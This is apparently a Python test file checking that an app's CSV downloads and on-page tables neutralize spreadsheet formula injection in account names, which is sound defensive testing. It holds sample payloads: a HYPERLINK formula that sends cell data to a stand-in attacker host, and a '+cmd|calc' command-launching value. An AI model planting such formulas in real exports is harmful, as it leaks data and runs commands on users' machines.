"""Downloads meant for people neutralize spreadsheet formulas in names; tables shown do too."""
from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pandas as pd
from streamlit.testing.v1 import AppTest

from revops_core.db import make_engine
from revops_core.queries import awards as qa
from revops_core.queries.common import EVERYTHING
from shell import backlog_data
from tests.factories import write

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_awards_csv_neutralizes_a_formula_in_an_account_name(tmp_path: Path, cfg) -> None:  # noqa: ANN001
    engine = make_engine(f"sqlite:///{tmp_path / 'evil.db'}")
    write(engine, accounts=[{"account_id": "A1", "name": EVIL}], products=[{"product_id": "P1"}],
          platform_awards=[{"award_id": "W1", "account_id": "A1", "product_id": "P1", "platform": "+cmd|calc",
                            "lifetime_value": 100.0}])
    with engine.connect() as conn:
        table, _total = qa.awards_table(conn, date(2026, 6, 30), EVERYTHING)
    back = pd.read_csv(io.BytesIO(backlog_data.awards_csv(table, cfg)), encoding="utf-8-sig", dtype=str)
    text = back.to_csv(index=False)
    assert "'" + EVIL in back.to_numpy().tolist()[0]
    assert "'+cmd|calc" in text
    assert not any(str(v).startswith(("=", "+", "@")) for v in back.to_numpy().ravel())
    engine.dispose()


def test_a_table_on_a_page_shows_the_neutralized_text() -> None:
    def page() -> None:
        import pandas as pd

        from shell import tables

        tables.show(pd.DataFrame({"Name": ['=HYPERLINK("x")', "Northline"], "Amount": [-1.0, 2.0]}))

    at = AppTest.from_function(page).run()
    shown = at.dataframe[0].value
    assert shown["Name"].tolist() == ['\'=HYPERLINK("x")', "Northline"]
    assert shown["Amount"].tolist() == [-1.0, 2.0]
